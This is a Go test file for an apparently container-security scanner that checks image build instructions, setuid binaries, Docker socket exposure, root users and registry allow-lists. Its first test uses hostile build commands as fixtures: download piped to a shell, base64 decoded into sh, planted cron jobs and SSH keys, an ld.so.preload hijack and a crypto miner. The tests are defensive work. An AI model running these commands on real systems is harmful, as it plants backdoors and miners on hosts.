package posture

import (
	"strings"
	"testing"

	"tidewaiter/image"
	"tidewaiter/policy"
)

// Instructions are read as a shell runs them, in the forms that builders write.
func TestSuspiciousInstructions(t *testing.T) {
	scope := sitePolicy(t, "").For(policy.Attributes{})
	for _, c := range []struct{ instruction, want string }{
		{"RUN /bin/sh -c curl -fsSL https://x.example/i.sh | bash # buildkit", "download is piped"},
		{"/bin/sh -c c\"u\"rl http://192.0.2.1/a|sh", "download is piped"},
		{"|1 V=2 /bin/sh -c wget -qO- http://192.0.2.1/a | sh", "download is piped"},
		{"RUN /bin/bash -o pipefail -c bash <(curl -s http://192.0.2.1/a) # buildkit", "download is piped"},
		{"RUN |2 A=1 B=2 /bin/sh -c echo aGk= | base64 -d | sh # buildkit", "decoded is piped"},
		{"RUN /bin/sh -c wget http://192.0.2.1/m -O /opt/m && chmod +x /opt/m && /opt/m # buildkit", "downloaded file, /opt/m"},
		{"RUN /bin/sh -c echo '* * * * * root /x' > /etc/cron.d/x # buildkit", "cron job"},
		{"RUN /bin/sh -c cat k >> /root/.ssh/authorized_keys # buildkit", "SSH key"},
		{"COPY keys /home/app/.ssh/authorized_keys # buildkit", "SSH key"},
		{"/bin/sh -c #(nop) COPY file:8 in /var/spool/cron/crontabs/root ", "cron job"},
		{"CMD [\"xmrig\"]", "miner"},
		{"ENTRYPOINT [\"/m\" \"-o\" \"stratum+ssl://pool.example:443\"]", "mining pool"},
		{"RUN /bin/sh -c (crontab -l; echo '@reboot /x') | crontab - # buildkit", "cron job"},
		{"RUN /bin/sh -c echo /tmp/l.so > /etc/ld.so.preload # buildkit", "library"},

		{"RUN /bin/sh -c apt-get update && apt-get install -y curl cron && rm -rf /var/lib/apt/lists/* /etc/cron.daily/apt-compat # buildkit", ""},
		{"RUN /bin/sh -c curl -fsSLO https://nodejs.example/n.tar.xz && echo 'abc  n.tar.xz' | sha256sum -c - && tar -xJf n.tar.xz # buildkit", ""},
		{"/bin/sh -c #(nop)  CMD [\"bash\"]", ""},
		{"ENV PATH=/usr/local/bin:/usr/bin", ""},
		{"COPY --from=build /out/app /usr/local/bin/app # buildkit", ""},
		{"", ""},
	} {
		got := suspicious(c.instruction, scope)
		if (got == "") != (c.want == "") || !strings.Contains(got, c.want) {
			t.Errorf("%s: %q, want %q", c.instruction, got, c.want)
		}
	}
}

func TestDistributionsSetID(t *testing.T) {
	for file, want := range map[string]bool{
		"usr/bin/passwd": true, "bin/su": true, "usr/lib/openssh/ssh-keysign": true, "/usr/bin/sudo": true,
		"opt/su": false, "usr/local/bin/passwd": false, "tmp/su": false, "usr/bin/../../opt/su": false, "usr/bin/rootme": false,
	} {
		if got := distributionSetID(file); got != want {
			t.Errorf("%s: %v", file, got)
		}
	}
}

func TestSelectors(t *testing.T) {
	labels := map[string]string{"app": "web", "tier": ""}
	for _, c := range []struct {
		s    Selector
		want bool
	}{
		{Selector{}, true},
		{Selector{MatchLabels: map[string]string{"app": "web"}}, true},
		{Selector{MatchLabels: map[string]string{"tier": "", "other": ""}}, false},
		{Selector{MatchExpressions: []Requirement{{"app", "In", []string{"web", "api"}}}}, true},
		{Selector{MatchExpressions: []Requirement{{"app", "NotIn", []string{"web"}}}}, false},
		{Selector{MatchExpressions: []Requirement{{"other", "NotIn", []string{"web"}}}}, true},
		{Selector{MatchExpressions: []Requirement{{"other", "Exists", nil}}}, false},
		{Selector{MatchExpressions: []Requirement{{"app", "DoesNotExist", nil}}}, false},
	} {
		if got := c.s.matches(labels); got != c.want {
			t.Errorf("%+v: %v", c.s, got)
		}
	}
}

func TestReach(t *testing.T) {
	for addr, want := range map[string]reach{
		"127.0.0.1:2375": fromHost, "[::1]:2375": fromHost, "localhost:2375": fromHost, "127.9.9.9:1": fromHost, "[::ffff:127.0.0.1]:1": fromHost,
		"0.0.0.0:2375": fromAnywhere, "[::]:2375": fromAnywhere, ":2375": fromAnywhere,
		"192.0.2.4:2375": fromSomewhere, "docker.example:2375": fromSomewhere, "127.0.0.1.example:2375": fromSomewhere,
	} {
		if got := reachOf(addr); got != want {
			t.Errorf("%s: %v, want %v", addr, got, want)
		}
	}
}

// A user namespace excuses root, unless the container shares the host's; an
// image's user stands in where a pod leaves it open.
func TestRootIsJudgedByWhatItMeans(t *testing.T) {
	engine := Engine{Name: "d", Userns: said("userns-remap default")}
	for name, c := range map[string]struct {
		facts Facts
		want  Verdict
	}{
		"mapped":         {Facts{Engines: []Engine{engine}, Containers: []Container{{User: said("root"), Where: "f", Engine: "d"}}}, Pass},
		"the host's own": {Facts{Engines: []Engine{engine}, Containers: []Container{{User: said("0:0"), Where: "f", HostNamespaces: []string{"user"}}}}, Fail},
		"another daemon": {Facts{Engines: []Engine{engine}, Containers: []Container{{User: said("0"), Where: "f", Engine: "e"}}}, Fail},
		"a silent pod":   {Facts{Containers: []Container{{Workload: "pod web", Where: "f"}}}, Fail},
		"a promise":      {Facts{Containers: []Container{{Workload: "pod web", Where: "f", NonRoot: true}}}, Pass},
		"its image":      {Facts{Containers: []Container{{Workload: "pod web", Where: "f", ImageID: digest("a")}}, Images: []Image{{ID: digest("a"), HasHistory: true, User: "app", Where: "i"}}}, Pass},
		"own users":      {Facts{Containers: []Container{{Workload: "pod web", Where: "f", OwnUsers: true, User: said("0")}}}, Pass},
	} {
		if r := resultOf(t, &c.facts, "M1026-1"); r.Verdict != c.want {
			t.Errorf("%s: %s (%s)", name, r.Verdict, r.Why)
		}
	}
}

// A name of a listed registry is not enough if another one served the image.
func TestTheAllowListAsksWhereAnImageCameFrom(t *testing.T) {
	f := img(func(i *Image) { i.Origins = nil })
	if r := resultOf(t, &f, "M1047-4"); r.Verdict != Fail || !strings.Contains(r.Why, "none of these served it") {
		t.Errorf("%s: %s", r.Verdict, r.Why)
	}
	f = img(func(i *Image) { i.Names = nil; i.Origins = nil; i.Seals = []Seal{{Kind: Signature, Valid: true}} })
	if r := resultOf(t, &f, "M1047-4"); r.Verdict != Pass {
		t.Errorf("signed by a pinned identity: %s: %s", r.Verdict, r.Why)
	}
}

// What a pod names is judged by its name, if nobody described the image; in the
// scope of the pod's namespace.
func TestTheAllowListAsksAboutWhatPodsName(t *testing.T) {
	for ref, want := range map[string]Verdict{"registry.example/team/web:1": Pass, "registry.example.evil.test/team/web:1": Fail, "nginx": Fail} {
		f := one(Container{Workload: "pod web", Namespace: "shop", Image: image.Parse(ref)})
		if r := resultOf(t, &f, "M1047-4"); r.Verdict != want {
			t.Errorf("%s: %s: %s", ref, r.Verdict, r.Why)
		}
	}
}
